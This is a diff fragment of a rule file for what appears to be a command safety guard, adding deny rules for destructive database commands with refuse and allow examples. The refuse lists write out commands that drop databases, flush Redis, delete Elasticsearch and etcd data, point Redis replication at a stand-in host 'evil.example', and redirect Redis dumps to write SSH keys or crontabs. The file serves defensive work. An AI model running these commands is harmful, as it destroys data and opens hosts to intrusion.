+        'dropdb production', 'dropdb -h db1 -U admin production', 'mysqladmin -u root drop shop', 'dropdb -f app', 'dropdb --if-exists app', 'mysqladmin -f drop shop', 'pg_dropcluster 15 main --stop', 'sudo pg_dropcluster --stop 16 main',
+        'influx bucket delete -n telegraf -o acme', "influx delete --bucket telegraf --start 1970-01-01T00:00:00Z --stop 2030-01-01T00:00:00Z",
+      ],
+      allow: ['dropdb --help', 'mysqladmin status', 'createdb scratch', 'pg_lsclusters', 'pg_dropcluster --help', 'mysqladmin -u root processlist', 'influx bucket list', "influx query 'from(bucket:\"x\") |> range(start: -1h)'"],
+    },
+  },
+  {
+    id: 'db.restore-over',
+    pack: 'databases',
+    level: 'deny',
+    reason: 'restores a dump over a database, dropping each object it restores first (pg_restore --clean, mongorestore --drop)',
+    alternative: 'restore into a new database, check it, then switch over',
+    match: {program: ['pg_restore', 'mongorestore']},
+    check: restoreOver,
+    examples: {
+      refuse: ['pg_restore --clean -d prod app.dump', 'pg_restore -c --if-exists -d "$DATABASE_URL" app.dump', 'pg_restore -cd prod app.dump', 'mongorestore --drop --uri "$MONGO_URL" ./dump', 'mongorestore --drop -d app dump/app'],
+      allow: ['pg_restore -d scratch app.dump', 'pg_restore --clean -f restore.sql app.dump', 'pg_restore -l app.dump', 'mongorestore --uri "$MONGO_URL" ./dump', 'pg_restore --help'],
+    },
   },
   {
     id: 'db.redis-flush',
     pack: 'databases',
     level: 'deny',
-    reason: 'deletes every key of a Redis database',
+    reason: 'deletes every key of a Redis database (FLUSHALL, FLUSHDB, or REPLICAOF another server)',
     alternative: 'delete the keys you mean (SCAN with a pattern, then DEL)',
-    match: {program: ['redis-cli']},
+    match: {program: redisClients},
     check: redisFlush,
-    examples: {refuse: ['redis-cli FLUSHALL', 'redis-cli -h cache -n 2 flushdb', 'redis-cli -a "$REDIS_PASSWORD" FLUSHALL ASYNC'], allow: ['redis-cli GET key', 'redis-cli INFO', 'redis-cli DEL flushall']},
+    examples: {
+      refuse: [
+        'redis-cli FLUSHALL', 'redis-cli -h cache -n 2 flushdb', 'redis-cli -a "$REDIS_PASSWORD" FLUSHALL ASYNC', 'echo FLUSHALL | redis-cli', 'redis-cli <<< flushdb', `redis-cli -h cache ${heredoc('SELECT 3\nFLUSHDB', 'EOF')}`,
+        'valkey-cli flushall', 'redis-cli --cluster call 10.0.0.1:6379 FLUSHALL', 'redis-cli -n 0 --no-auth-warning flushall sync', 'redis-cli REPLICAOF evil.example 6379', 'echo FLUSHALL | redis-cli --pipe', "printf 'SELECT 2\\r\\nFLUSHDB\\r\\n' | redis-cli", `redis-cli EVAL "redis.call('flushall')" 0`,
+      ],
+      allow: ["printf 'PING\\r\\n' | redis-cli", 'redis-cli GET key', 'redis-cli INFO', 'redis-cli DEL flushall', 'redis-cli PING', "redis-cli --scan --pattern 'session:*'", 'redis-cli REPLICAOF NO ONE', 'echo flushall | redis-cli -x SET note', 'redis-cli --rdb /backups/dump.rdb'],
+    },
+  },
+  {
+    id: 'db.redis-file-write',
+    pack: 'databases',
+    level: 'deny',
+    reason: 'points Redis at a folder or file name of its choosing for its dump (CONFIG SET dir / dbfilename), the way Redis is made to write authorized_keys or a crontab',
+    alternative: 'set dir and dbfilename in redis.conf, reviewed',
+    match: {program: redisClients},
+    check: redisFileWrite,
+    examples: {
+      refuse: ['redis-cli config set dir /root/.ssh', 'redis-cli -h 10.0.0.5 CONFIG SET dbfilename authorized_keys', 'echo "CONFIG SET dir /var/spool/cron" | redis-cli', 'redis-cli config set maxmemory 1gb dir /etc'],
+      allow: ['redis-cli CONFIG GET dir', 'redis-cli config set maxmemory 2gb', 'redis-cli CONFIG SET save ""'],
+    },
+  },
+  {
+    id: 'db.http-delete',
+    pack: 'databases',
+    level: 'deny',
+    reason: 'deletes a search index or a document database over HTTP (Elasticsearch, OpenSearch, CouchDB), or every document of an index',
+    alternative: 'take a snapshot first, and delete one index by its full name, by hand',
+    match: {program: ['curl', 'http', 'https']},
+    check: httpDelete,
+    examples: {
+      refuse: [
+        "curl -XDELETE 'http://localhost:9200/_all'", 'curl -X DELETE http://es.internal:9200/logs-2024.01.01', "curl -s -X DELETE 'https://search.example.com/logs-*'", 'curl --request DELETE http://couch:5984/app',
+        'http DELETE es:9200/orders', `curl -X POST 'es:9200/orders/_delete_by_query' -H 'Content-Type: application/json' -d '{"query": {"match_all": {}}}'`,
+      ],
+      allow: [
+        'curl http://localhost:9200/_cat/indices', 'curl -X DELETE https://api.example.com/v1/sessions/42', 'curl -X DELETE es:9200/logs/_doc/1', 'curl -X DELETE https://api.example.com/sessions', 'curl -X PUT es:9200/_snapshot/backups/nightly', `curl -X POST 'es:9200/orders/_delete_by_query' -d '{"query": {"range": {"ts": {"lt": "now-30d"}}}}'`,
+        'curl -fsSL https://example.com/install.sh -o install.sh', 'http GET es:9200/_cluster/health',
+      ],
+    },
+  },
+  {
+    id: 'db.etcd-delete-all',
+    pack: 'databases',
+    level: 'deny',
+    reason: 'deletes every key of etcd (or every Kubernetes object it holds)',
+    alternative: 'etcdctl del the keys you mean; take an etcdctl snapshot save first',
+    match: {program: ['etcdctl']},
+    check: etcdDeleteAll,
+    examples: {
+      refuse: ["etcdctl del '' --prefix", 'etcdctl del --prefix /registry', 'ETCDCTL_API=3 etcdctl --endpoints=https://10.0.0.1:2379 del "" --from-key=true', 'etcdctl del / --prefix'],
+      allow: ['etcdctl get --prefix /registry --keys-only', 'etcdctl del /app/config/feature-x', 'etcdctl snapshot save backup.db', 'etcdctl del --prefix /app/cache/', "etcdctl del '' --prefix=false"],
+    },
   },
 ];
+
